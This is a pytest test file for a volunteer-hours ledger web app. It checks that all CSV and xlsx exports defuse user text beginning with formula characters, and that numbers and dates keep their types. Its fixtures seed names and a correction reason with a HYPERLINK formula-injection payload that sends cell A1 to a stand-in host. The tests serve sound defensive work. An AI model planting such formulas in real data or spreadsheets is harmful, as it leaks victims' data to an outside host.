"""Formula injection: every export kind, CSV and xlsx, with user text starting like a formula."""
import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from webapp.models import LedgerEntry
from webapp.services.ledger import exports, ledger, periods

BJ = ZoneInfo("Asia/Shanghai")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.fixture(params=DANGEROUS, ids=[repr(c) for c in DANGEROUS])
def hostile(request, db, world, make_wish):
    """Names, category, unit, grid, community and a correction reason starting with `ch`."""
    ch = request.param
    payload = lambda what: f"{ch}HYPERLINK(\"http://e.x/?\"&A1,\"{what}\")"  # noqa: E731  (≤ 40: names)
    when = datetime(2026, 11, 5, 10, tzinfo=BJ).astimezone(timezone.utc)
    make_wish("closed", estimated_hours=2, volunteers=[world.member], title="帮忙取快递")
    world.member.name = payload("vol")
    world.cat.name = payload("cat")
    world.unit.name = payload("unit")
    world.ga1.name = payload("grid")
    world.ca.name = payload("community")
    world.street.name = payload("street")
    chain = ledger.lock_chain(db, world.ca.id)
    e = ledger.append(db, chain, when, volunteer_id=world.member.id, unit_id=world.unit.id,
                      grid_id=world.ga1.id, category_id=world.cat.id, service_date=when,
                      hours=Decimal("2.0"), points=Decimal("2.0"), kind="entry")
    db.commit()
    ledger.correct(db, world.admin, e.id, "1.5", payload("reason"))
    world.ch, world.payload = ch, payload
    return world


def _sheets(db, w):
    """(name, [Sheet], formats) of every export the app offers, built fresh each call."""
    p = periods.year(2026)
    half = periods.half_of(datetime.now(timezone.utc))
    from webapp.services.ledger import tallies
    out = [(f"tally-{by}", lambda by=by: [exports.tally_sheet(db, w.ca.id, by, p, w.ca.name)],
            ("csv", "xlsx")) for by in ("volunteer", "unit", "grid", "category", "month")]
    out.append(("ledger", lambda: [exports.ledger_sheet(db, w.ca.id, p, w.ca.name)],
                ("csv", "xlsx")))
    out.append(("street", lambda: [exports.street_sheet(
        tallies.compare_communities(db, w.street.id, p), p, w.street.name)], ("csv", "xlsx")))
    out.append(("unit-report", lambda: exports.unit_report_sheets(db, w.unit, half, w.ca.name),
                ("xlsx",)))
    return out


def test_every_export_neutralises_formula_text_and_keeps_numbers_and_dates(db, hostile):
    w = hostile
    seen_payloads, seen_numbers, seen_dates = set(), 0, 0
    for name, make, formats in _sheets(db, w):
        for fmt in formats:
            data = exports.to_bytes(fmt, make())
            if fmt == "csv":
                rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
                for row in rows:
                    for cell in row:
                        assert not (cell.startswith(DANGEROUS) and not _is_number(cell)), \
                            (name, cell)
                        if cell.startswith("'" + w.ch):
                            seen_payloads.add(cell)
                        seen_numbers += _is_number(cell) and "." in cell
                continue
            wb = load_workbook(io.BytesIO(data))
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        assert c.data_type != "f", (name, ws.title, c.coordinate, c.value)
                        if isinstance(c.value, str):
                            assert not c.value.startswith(DANGEROUS), (name, c.value)
                            if c.value.startswith("'" + w.ch):
                                seen_payloads.add(c.value)
                        elif isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
                            seen_numbers += 1
                        elif isinstance(c.value, (date, datetime)):
                            seen_dates += 1
    kinds = {p.split("\"")[-2] for p in seen_payloads}
    assert kinds >= {"vol", "cat", "unit", "grid", "community", "street", "reason"}, kinds
    assert seen_numbers > 20 and seen_dates >= 3


def test_ledger_xlsx_keeps_hours_numeric_and_service_dates_as_dates(db, hostile):
    sheet = exports.ledger_sheet(db, hostile.ca.id, periods.year(2026), hostile.ca.name)
    ws = load_workbook(io.BytesIO(exports.to_bytes("xlsx", [sheet]))).worksheets[0]
    rows = [[c for c in r] for r in ws.iter_rows(min_row=3)]
    mine = [r for r in rows[:-1] if r[10].value]  # the corrected entry: reason on both lines
    entry = rows[rows.index(mine[0]) - 1]
    reversal, correction = mine
    assert isinstance(entry[1].value, datetime) and entry[1].value.date() == date(2026, 11, 5)
    assert entry[1].number_format == "yyyy-mm-dd"
    assert (entry[7].value, reversal[7].value, correction[7].value) == (2.0, -2.0, 1.5)
    # (XML stores a CR as a newline)
    assert correction[10].value == ("'" + hostile.payload("reason")).replace("\r", "\n")
    assert correction[10].data_type == "s"
    total = sum(db.scalars(select(LedgerEntry.hours)))
    assert rows[-1][0].value == "合计" and rows[-1][7].value == float(total)


def test_safe_cell_is_the_one_rule():
    assert exports.safe_cell("=1+1") == "'=1+1"
    assert exports.safe_cell("\t=1") == "'\t=1" and exports.safe_cell("＝1") == "'＝1"
    assert exports.safe_cell("王芳") == "王芳" and exports.safe_cell(None) == ""
    assert exports.safe_cell(Decimal("-2.5")) == -2.5 and exports.safe_cell(-3) == -3
    assert exports.safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)


def test_a_formula_deep_in_a_long_export_is_caught_as_in_a_short_one(app):
    """Rows are checked a column of exports.CHUNK at a time: one hostile value in any column of
    a later chunk, beside None, a lazy translation or a ragged row, is still neutralised, and
    the totals are the row-by-row sums."""
    from flask_babel import lazy_gettext
    n = exports.CHUNK * 2 + 500
    hostile = {exports.CHUNK + 742: (2, "=HYPERLINK(1)"), exports.CHUNK * 2 + 3: (3, "＠x"),
               7: (2, "\rcmd"), exports.CHUNK + 9: (4, "-1+1")}

    def rows():
        for i in range(n):
            row = [i, date(2026, 3, 1), f"党员{i}", None if i % 5 else "备注", "+ok" if i == 0 else "a",
                   Decimal("1.5"), i % 3]
            if i in hostile:
                col, text = hostile[i]
                row[col] = text
            if i == exports.CHUNK * 2 + 100:
                row[3] = lazy_gettext("登记")
            yield row
    sheet = exports.Sheet("台账", list("ABCDEFG"), [8] * 7, rows(), (5, 6), n)
    with app.test_request_context():
        out = list(exports._stream(sheet, None, 0, n))
    assert len(out) == n
    for i, (col, text) in hostile.items():
        assert out[i][col] == "'" + text, (i, out[i])
    assert out[0][4] == "'+ok"
    assert out[exports.CHUNK * 2 + 100][3] == "登记"
    assert out[1][3] is None and out[5][3] == "备注"  # None stays None (the writers print "")
    assert all(type(r[1]) is date and r[0] == i for i, r in enumerate(out))
    assert sheet.sum_values == {5: 1.5 * n, 6: float(sum(i % 3 for i in range(n)))}
    assert all(type(v) is float for v in sheet.sum_values.values())  # the totals print as x.0
    told = []
    list(exports._stream(exports.Sheet("x", ["A"], [8], ([i] for i in range(2500)), (), 2500),
                         lambda done, _total: told.append(done), 0, 2500))
    assert told == [1000, 2000]  # a progress write every 1,000 rows, as before
    ragged = exports.Sheet("x", ["A", "B"], [8, 8], [["a"], ["b", "=1"]], (), 2)
    assert list(exports._stream(ragged, None)) == [["a"], ["b", "'=1"]]
